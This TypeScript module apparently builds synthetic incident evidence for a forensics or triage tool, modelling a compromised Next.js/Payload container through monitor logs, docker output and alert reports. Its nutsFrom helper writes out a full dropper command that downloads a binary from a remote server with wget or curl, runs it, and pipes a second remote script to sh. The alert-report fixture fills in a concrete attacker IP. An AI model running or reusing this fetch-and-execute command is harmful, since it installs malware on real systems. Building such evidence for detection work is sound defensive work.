import { at, type Piece } from './bundle-builder.js';

/** Container of the app in the case's stack. */
export const app = 'payload-payload-1';
const appSubject = `container:${app}`;

/** Stack of code that React's decoder evaluated out of a request, as the case's monitor wrote it. */
export const evalStack =
  'at d.execSync (/app/.next/server/chunks/4437.js:2:309) | at Object.eval [as then] (eval at <anonymous> (/app/node_modules/next/dist/compiled/next-server/app-page.runtime.prod.js:25:34007), <anonymous>:3:53) | at process.processTicksAndRejections (node:internal/process/task_queues:95:5)';
/** Stack of Payload's own telemetry under the same monitor. */
export const appStack =
  'at d.execSync (/app/.next/server/chunks/4437.js:2:309) | at getGitRemote (/app/node_modules/payload/dist/utilities/telemetry/index.js:88:20) | at process.processTicksAndRejections (node:internal/process/task_queues:95:5)';
/** The case's command from one server. */
export const nutsFrom = (server: string) =>
  `(cd /dev;(busybox wget -O x86 http://${server}/nuts/x86||curl -s -o x86 http://${server}/nuts/x86 );chmod 777 x86;./x86 reactOnMynuts;(wget -q http://${server}/nuts/bolts -O-)|sh)&`;

/** One call through a monitor that calls itself: `count` lines at microsecond distance, then the overflow. */
export function recursion(start: string, command: string, stack: string, count: number): string[] {
  const lines = Array.from(
    { length: count },
    (_, index) =>
      `${at(start, 0, 1000 + index * 4000)} [SUBPROC_DIAG] ts=${start} method=execSync repeat=${index + 1} executed=true cmd=${JSON.stringify(command)} stack=${JSON.stringify(stack)}`,
  );
  return [
    ...lines,
    `${at(start, 0, 900_000_000)}  ⨯ RangeError: Maximum call stack size exceeded`,
    `${at(start, 0, 900_001_000)}     at d.execSync (.next/server/chunks/4437.js:2:309)`,
    `${at(start, 0, 900_002_000)}     at d.execSync (.next/server/chunks/4437.js:2:513)`,
    `${at(start, 0, 900_003_000)}     at d.execSync (.next/server/chunks/4437.js:2:513)`,
  ];
}

/** One line of the monitor, with a stack or without. */
export const monitorLine = (moment: string, command: string, stack = evalStack) =>
  `${at(moment)} [SUBPROC_DIAG_GLOBAL] ${JSON.stringify({ ts: moment, method: 'execSync', cmd: command, stack: stack.replaceAll(' | ', '\n') })}`;

/** What Next prints when it comes up. */
export const start = (moment: string, version: string) => [
  `${at(moment)} > next start`,
  `${at(moment, 1)}    ▲ Next.js ${version}`,
  `${at(moment, 2)}  ✓ Ready in 1.1s`,
];

/** The first call of the miner's program in the list of `docker top`, as ps prints it. */
export const node =
  '497100              497080              root                Fri Dec 12 15:51:18 2025   2.1   214000   next-server (v15.3.2)';

/** `docker top` of the app. */
export const top = (rows: readonly string[], container = app): Piece => ({
  id: 'docker.top',
  subject: `container:${container}`,
  text: [
    'PID                 PPID                USER                STARTED                  %CPU                RSS                 COMMAND',
    ...rows,
  ].join('\n'),
  command: ['docker', 'top', container, '-eo', 'pid,ppid,user,lstart,pcpu,rss,args'],
});

/** nginx's access log. */
export const access = (lines: readonly string[]): Piece => ({
  id: 'nginx.access-log',
  text: `${lines.join('\n')}\n`,
  file: '/var/log/nginx/access.log',
});

/** An earlier report written by people. */
export const report = (name: string, ...lines: readonly string[]): Piece => ({
  id: 'case.reports',
  file: `docs/${name}`,
  text: `${lines.join('\n')}\n`,
});

/** A report of an attack from `server`, of the given day. */
export const attackReport = (date: string, server = '193.34.213.150') =>
  report(
    `alert-${date.slice(0, 10)}.md`,
    '# Urgent Security Alert',
    `**Date:** ${date} UTC`,
    '**Status:** CRITICAL - ACTIVE ATTACKS DETECTED',
    `- in the container log: ${nutsFrom(server)}`,
    '- attack vector: unknown',
  );

/** The case was looked for and is empty. */
export const noHistory: Piece = { id: 'case.reports', status: 'absent', detail: 'no candor.d and no reports' };

/** The ledger of changes. */
export const ledger = (...entries: readonly (readonly [at: string, what: string])[]): Piece => ({
  id: 'case.changes',
  text: `${entries.map(([when, what]) => JSON.stringify({ at: when, what, by: 'operator' })).join('\n')}\n`,
  file: 'candor.d/ledger.ndjson',
});

/** What changed in the app's writable layer, and the files among it. */
export function layer(lines: readonly string[], files: readonly Readonly<Record<string, unknown>>[] = []): Piece[] {
  return [
    { id: 'docker.diff', subject: appSubject, text: `${lines.join('\n')}\n`, command: ['docker', 'diff', app] },
    { id: 'docker.files', subject: appSubject, text: `${files.map((file) => JSON.stringify(file)).join('\n')}\n` },
  ];
}
